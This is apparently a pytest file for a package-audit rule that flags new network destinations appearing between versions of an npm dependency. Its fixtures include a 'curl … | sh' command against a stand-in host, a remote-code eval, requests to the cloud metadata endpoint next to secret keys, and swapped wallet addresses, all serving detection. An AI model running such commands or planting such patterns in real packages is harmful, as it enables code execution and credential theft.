"""Addresses that were there or are harmless, then new ones."""

from __future__ import annotations

from dataclasses import replace
from typing import TYPE_CHECKING, Any

import pytest
from support.subjects import compared, found, package, subject, use

from audit.model.manifest import Manifest
from audit.model.mention import ENCODED, ENDPOINT, PAYEE, PROSE, Mention, Mentioned
from audit.model.package import Evidence

if TYPE_CHECKING:
    from audit.model.finding import Finding

RULE = "new-destination"
OWN = Manifest(
    name="a",
    raw={
        "homepage": "https://docs.ledger.invalid/a",
        "repository": {"url": "git+https://code.invalid/a"},
    },
)


def fetching(*literals: str, **fields: Any) -> Any:
    return replace(use("global:fetch", "network", literals=literals), **fields)


def unloaded(file: str) -> Any:
    literals = ["https://collect.invalid/k"]
    return use("global:fetch", "network", file, literals=literals, reachable=False)


def judged(old: list[Any], new: list[Any], step: str = "patch") -> tuple[Finding, ...]:
    before = package("node_modules/a", *old, manifest=OWN)
    return found(RULE, compared(before, package("node_modules/a", *new, manifest=OWN), step))


SILENT: dict[str, list[str]] = {
    "the same host": ["https://api.known.invalid/v2?x=1"],
    "the same owner": ["https://files.known.invalid"],
    "its own page": ["https://ledger.invalid/help"],
    "where its code is kept": ["https://code.invalid/a/raw"],
    "this machine": ["http://localhost:3000", "http://127.0.0.1/x", "ws://[::1]:80"],
    "a file's name": ["config.json", "lib/index.js", "document.body"],
    "an unfinished address": ["https://", "https://${host}/x", "https://*.x"],
    "words": ["POST", "content-type", "application/json"],
}


@pytest.mark.parametrize("literals", SILENT.values(), ids=SILENT)
def test_silent(literals: list[str]) -> None:
    assert judged([fetching("https://api.known.invalid")], [fetching(*literals)]) == ()


def test_without_a_version_before_every_host_is_old() -> None:
    assert found(RULE, subject(package("node_modules/a", fetching("https://x.invalid")))) == ()


def test_beside_no_power_it_is_a_word() -> None:
    assert judged([], [use("builtin:util.format", "none", literals=["https://x.invalid"])]) == ()


FIRING: dict[str, tuple[str, Any]] = {
    "an address": ("high", fetching("https://collect.invalid/k")),
    "with a user": ("high", fetching("https://api.known.invalid@collect.invalid/k")),
    "a bare host": ("high", use("builtin:https.request", "network", literals=["collect.invalid"])),
    "another host of where its code is kept": ("high", fetching("https://api.code.invalid/repos")),
    "numbers": ("high", fetching("http://203.0.113.7:8080/a")),
    "a command": ("high", use("builtin:child_process.exec", "process", literals=["curl https://collect.invalid | sh"])),
    "code": ("moderate", use("global:eval", "code", literals=["import('https://collect.invalid')"])),
    "nothing loads it": ("low", unloaded("test/send.js")),
    "anybody may ask for it by its path": ("high", unloaded("dist/a.min.js")),
}  # fmt: skip


@pytest.mark.parametrize(("severity", "new"), FIRING.values(), ids=FIRING)
def test_firing(severity: str, new: Any) -> None:
    (finding,) = judged([fetching("https://api.known.invalid")], [new])
    assert finding.severity == severity


def test_a_breaking_release_weighs_less() -> None:
    (finding,) = judged([], [fetching("https://collect.invalid")], "major")
    assert (finding.severity, finding.confidence) == ("moderate", "low")


def test_hosts_come_along_with_code_of_a_dropped_dependency() -> None:
    old = package("node_modules/a")
    client = package("node_modules/b", fetching("https://api.known.invalid"))

    def hosts(name: str, *literals: str, own: tuple[Any, ...] = ()) -> int:
        before = package(f"node_modules/{name}", *own)
        after = package(f"node_modules/{name}", fetching(*literals))
        return len(found(RULE, compared(before, after, dropped=(client,))))

    assert hosts("weather-x", "https://api.known.invalid/v1") == 0
    assert hosts("weather-x", "https://api.weather-x.invalid") == 0
    assert hosts("@weather/x", "https://weather.invalid") == 0
    assert hosts("weather-x", "https://weather-x-api.invalid") == 1
    assert (
        hosts("weather-x", "https://api.weather-x.invalid", own=(fetching("https://c.invalid"),))
        == 1
    )
    assert (
        found(RULE, compared(old, package("node_modules/a", fetching("https://x.invalid")))) != ()
    )


def mention(how: Mentioned, to: str, text: str, *, reachable: bool = True) -> Mention:
    return Mention(how, to, text, Evidence("index.js", 4, 1, text, reachable))


PAGE = use("global:document.createElement", "dom")
SCRIPT = mention(Mentioned.ELEMENT, "src", "https://new.invalid/x.js")
POST = mention(Mentioned.HANDED, "http-x", "https://new.invalid/x")


def mentioning(
    old: list[Mention], new: list[Mention], *uses: Any, asking: str = "", step: str = "patch"
) -> tuple[Finding, ...]:
    before = package("node_modules/a", *uses, manifest=OWN, mentions=tuple(old))
    after = package("node_modules/a", *uses, manifest=OWN, mentions=tuple(new))
    names = frozenset({asking} - {""})
    return found(RULE, compared(before, after, step, asking=names))


def test_an_address_given_to_an_element() -> None:
    (finding,) = mentioning([], [SCRIPT], PAGE)
    assert (finding.severity, "element's src" in finding.message) == ("high", True)
    (finding,) = mentioning([], [replace(SCRIPT, text="//new.invalid/x.js")], PAGE)
    assert "new.invalid" in finding.message


def test_an_address_handed_to_a_package_that_asks_for_it() -> None:
    (finding,) = mentioning([], [POST], asking="http-x")
    assert (finding.severity, 'hands "http-x"' in finding.message) == ("high", True)


@pytest.mark.parametrize(
    ("old", "new", "uses", "asking"),
    [
        pytest.param([SCRIPT], [SCRIPT], [PAGE], "", id="there before"),
        pytest.param([POST], [SCRIPT], [PAGE], "", id="named otherwise before"),
        pytest.param([], [POST], [], "", id="a package without the network"),
        pytest.param(
            [], [replace(SCRIPT, text="https://ledger.invalid/x.js")], [PAGE], "", id="its own page"
        ),
        pytest.param(
            [], [SCRIPT], [PAGE, fetching("https://new.invalid")], "", id="named beside a power"
        ),
        pytest.param([], [replace(POST, mentioned=Mentioned.PATH)], [], "http-x", id="a path"),
    ],
)
def test_no_news(old: list[Mention], new: list[Mention], uses: list[Any], asking: str) -> None:
    assert mentioning(old, new, *uses, asking=asking) == ()


def test_a_script_in_pages_that_it_makes() -> None:
    (finding,) = mentioning([], [SCRIPT])
    assert finding.severity == "high"
    assert mentioning([], [SCRIPT], step="minor") == ()


KEPT = mention(Mentioned.ADDRESS, "", "https://new.invalid")
ASKED = replace(KEPT, to=ENDPOINT)
HIDDEN = replace(KEPT, to=ENCODED)
FETCH = use("global:fetch", "network")


@pytest.mark.parametrize(
    ("new", "uses", "step", "severity"),
    [
        (KEPT, [FETCH], "patch", "high"),
        (KEPT, [FETCH], "minor", "moderate"),
        (KEPT, [FETCH], "major", "moderate"),
        (KEPT, [], "patch", "high"),
        (KEPT, [], "minor", "low"),
        (ASKED, [FETCH], "minor", "high"),
        (ASKED, [], "patch", "high"),
        (ASKED, [], "minor", "low"),
        (HIDDEN, [], "minor", "high"),
        (mention(Mentioned.ADDRESS, ENDPOINT, "//New.Invalid/getServer"), [FETCH], "minor", "high"),
        (mention(Mentioned.ADDRESS, ENDPOINT, "//new.invalid", reachable=False), [FETCH], "minor", "low"),
        (mention(Mentioned.ADDRESS, ENDPOINT, "//new.invalid", reachable=False), [FETCH], "patch", "high"),
    ],
)  # fmt: skip
def test_an_address_that_is_kept(new: Mention, uses: list[Any], step: str, severity: str) -> None:
    (finding,) = mentioning([], [new], *uses, step=step)
    assert (finding.severity, "new.invalid" in finding.message) == (severity, True)


@pytest.mark.parametrize(
    "kept",
    [
        replace(KEPT, to=PROSE),
        replace(ASKED, text="https://ledger.invalid/x"),
        replace(ASKED, text="https://code.invalid/x"),
        replace(ASKED, text="http://127.0.0.1:80"),
        replace(ASKED, text="http://2130706433:80"),
        replace(ASKED, text="https://www.w3.org"),
        replace(ASKED, text="//NextServer.getServer"),
        replace(ASKED, text="//server.js"),
    ],
)
def test_an_address_that_is_no_news(kept: Mention) -> None:
    assert mentioning([], [kept], FETCH) == ()
    assert mentioning([replace(kept, to=HIDDEN.to)], [kept], FETCH) == ()


def test_the_places_stand_in_the_order_of_the_package() -> None:
    files = [f"{letter}.js" for letter in "abcdefghijkl"]
    new = [
        Mention(
            Mentioned.ADDRESS,
            "",
            f"https://{file}.invalid",
            Evidence(file, 1, 1, "x", reachable=True),
        )
        for file in files
    ]
    (finding,) = mentioning([], new, FETCH)
    assert [place.file for place in finding.evidence] == files[:5]


def test_one_more_of_a_table_of_addresses() -> None:
    table = [replace(KEPT, text=f"https://h{number}-x.invalid") for number in range(40)]
    (finding,) = mentioning(table, [*table, ASKED], FETCH)
    assert finding.severity == "low"


@pytest.mark.parametrize("literal", ["//new.invalid/x", "git@new.invalid:a/b", "u@new.invalid"])
def test_an_address_without_a_scheme(literal: str) -> None:
    (finding,) = judged([fetching()], [fetching(literal)])
    assert "new.invalid" in finding.message


def test_a_version_is_no_host() -> None:
    assert judged([fetching()], [fetching("pkg-x@latest", "pkg-x@1.2.3", "//", "//x")]) == ()


def test_a_number_is_a_host() -> None:
    (finding,) = judged([fetching()], [fetching("http://3405803783:8085/b")])
    assert "203.0.113.7" in finding.message


OWNED = mention(Mentioned.WALLET, "", "0x7a250d5630B4cF539739dF2C5dAcb4c659F2488D")
OTHER = replace(OWNED, text="0x3bA1fC0f5D7c2e1B9a8D6E4c5F7b8a9C0d1E2f34")


@pytest.mark.parametrize(
    ("old", "step", "severity"),
    [
        ([], "patch", "high"),
        ([], "minor", "high"),
        ([OWNED], "patch", "moderate"),
        ([OWNED], "minor", "moderate"),
        ([OWNED], "major", "low"),
        ([replace(OWNED, text=f"0x{number:040x}") for number in range(20)], "patch", "low"),
    ],
)
def test_a_wallet(old: list[Mention], step: str, severity: str) -> None:
    (finding,) = mentioning(old, [*old, OTHER], step=step)
    assert (finding.severity, OTHER.text in finding.message) == (severity, True)


def test_a_wallet_in_the_place_of_another_weighs_more_than_one_more_of_a_table() -> None:
    (finding,) = mentioning([OWNED], [OTHER])
    assert finding.severity == "high"
    (finding,) = mentioning([OWNED], [OWNED, replace(OTHER, to=PAYEE)])
    assert finding.severity == "high"


def test_a_wallet_in_other_letters_is_the_same() -> None:
    assert mentioning([OWNED], [replace(OWNED, text=OWNED.text.lower())]) == ()


def test_the_place_that_a_compiled_file_comes_from() -> None:
    def installing(host: str) -> Any:
        manifest = Manifest(name="a", raw={**OWN.raw, "binary": {"host": f"https://{host}/x"}})
        return package("node_modules/a", manifest=manifest)

    (finding,) = found(RULE, compared(installing("old.invalid"), installing("new.example")))
    assert (finding.severity, "compiled file" in finding.message) == ("high", True)
    assert found(RULE, compared(installing("old.invalid"), installing("old.invalid"))) == ()


def test_the_end_of_a_name_that_is_asked_for() -> None:
    asked = use("builtin:dns.lookup", "network", literals=[".d.new.invalid"])
    (finding,) = judged([use("builtin:dns.lookup", "network")], [asked])
    assert "d.new.invalid" in finding.message


def test_the_place_where_the_host_stands_is_shown() -> None:
    asking = use(
        "global:fetch",
        "network",
        "a.js:2",
        "b.js:3",
        "c.js:4",
        literals=["x", "https://new.invalid/x"],
    )
    first, second, third = asking.evidence
    there = third._replace(literals=("https://new.invalid/x",))
    (finding,) = judged([], [replace(asking, evidence=(first, second, there))])
    assert finding.evidence == (there,)
    (finding,) = judged([], [asking])
    assert finding.evidence == (first, second)


METADATA = fetching("http://169.254.169.254/latest")


@pytest.mark.parametrize(
    ("said", "step", "new", "severity"),
    [
        ("credential providers", "minor", METADATA, "moderate"),
        ("credential providers", "patch", METADATA, "high"),
        ("logger", "minor", METADATA, "high"),
        ("credential providers", "minor", fetching("http://169.254.1.1/x"), "high"),
    ],
)
def test_the_metadata_of_a_cloud(said: str, step: str, new: Any, severity: str) -> None:
    before = package("node_modules/a", manifest=Manifest(name="a", description=said))
    (finding,) = found(RULE, compared(before, package("node_modules/a", new), step))
    assert finding.severity == severity


KEYS = use("global:process.env.A_SECRET_KEY", "environment")


def asking(host: str) -> Any:
    place = Evidence("a.js", 1, 1, f"fetch('{host}')", literals=(host,))
    return fetching(host, evidence=(place,))


API, MACHINE = asking("https://old.invalid"), asking("http://169.254.169.254/latest")


@pytest.mark.parametrize(
    ("old", "new", "severity"),
    [
        pytest.param([KEYS, API], [MACHINE], "moderate", id="who signs in"),
        pytest.param([API], [MACHINE], "high", id="without credentials"),
        pytest.param([KEYS], [MACHINE], "high", id="without requests"),
        pytest.param(
            [KEYS, API], [MACHINE, asking("https://b.invalid")], "high", id="and elsewhere"
        ),
        pytest.param(
            [KEYS, API],
            [MACHINE, use("builtin:net.connect", "network")],
            "high",
            id="and somewhere",
        ),
    ],
)
def test_the_credentials_of_a_machine(old: list[Any], new: list[Any], severity: str) -> None:
    before = package("node_modules/a", *old)
    findings = found(RULE, compared(before, package("node_modules/a", *old, *new), "minor"))
    assert [each.severity for each in findings] == [severity]
